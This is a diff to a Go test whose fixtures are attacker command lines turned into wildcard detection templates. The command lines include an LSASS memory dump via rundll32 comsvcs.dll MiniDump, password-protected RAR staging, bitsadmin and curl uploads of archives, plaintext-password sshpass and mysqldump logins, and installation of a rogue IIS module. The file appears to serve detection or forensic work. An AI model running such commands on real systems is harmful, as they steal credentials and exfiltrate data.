@@ -622,12 +622,17 @@ func TestCallsSeesThroughAShell(t *testing.T) {
 // TestTemplatesKeepHabitsAndNobodysNames: what a switch says is an account is the victim's, though no trail knows the account.
 func TestTemplatesKeepHabitsAndNobodysNames(t *testing.T) {
 	for line, want := range map[string]string{
-		`C:\x\plink.exe -ssh -batch -l netops 10.16.26.1 "show running-config"`: `*plink.exe* -ssh -batch -l * *.1 *`,
-		`curl -u backup:Summer26 -k -T a.rar`:                                   `*curl* -u * -k -T *.rar`,
-		`psql -U carlos -d reservations -c "select 1"`:                          `*psql* -U * -d reservations -c *`,
-		`runas /user CORP\anna notepad.exe`:                                     `*runas* /user * notepad.exe`,
-		`tool.exe -l -v --dump all`:                                             `*tool.exe* -l -v --dump all`,
-		`rundll32.exe C:\w\comsvcs.dll MiniDump 624 C:\x.dmp full`:              `*rundll32.exe* *.dll MiniDump * *.dmp full`,
+		`C:\x\plink.exe -ssh -batch -l netops 10.16.26.1 "show running-config"`:   `*plink.exe* -ssh -batch -l *`,
+		`C:\P\dz.exe a -v200m -hpQDabi9 D:\s\x.part1.rar D:\s`:                    `*dz.exe* a -* -hp* *.rar *`,
+		`sshpass -p xdira ssh dbadm@10.101.1.41`:                                  `*sshpass* -p * ssh *`,
+		`mysqldump -uroot -pHunter2 resv pax -r /tmp/x.sql`:                       `*mysqldump* -u* -p* resv pax -r *.sql`,
+		`bitsadmin /transfer Vumujob /upload /priority high https://a/b C:\c.rar`: `*bitsadmin* /transfer * /upload /priority high * *.rar`,
+		`appcmd.exe install module /name:TafudiFilter /image:C:\x\fl.dll`:         `*appcmd.exe* install module /name:* /image:*.dll`,
+		`curl -u backup:Summer26 -k -T a.rar`:                                     `*curl* -u * -k -T *.rar`,
+		`psql -U carlos -d reservations -c "select 1"`:                            `*psql* -U * -d reservations -c *`,
+		`runas /user CORP\anna notepad.exe`:                                       `*runas* /user * notepad.exe`,
+		`tool.exe -l -v --dump all`:                                               `*tool.exe* -l -v --dump all`,
+		`rundll32.exe C:\w\comsvcs.dll MiniDump 624 C:\x.dmp full`:                `*rundll32.exe* *.dll MiniDump * *.dmp full`,
 	} {
 		if got := Template(line, nil); got != want {
 			t.Errorf("%s: %q, want %q", line, got, want)
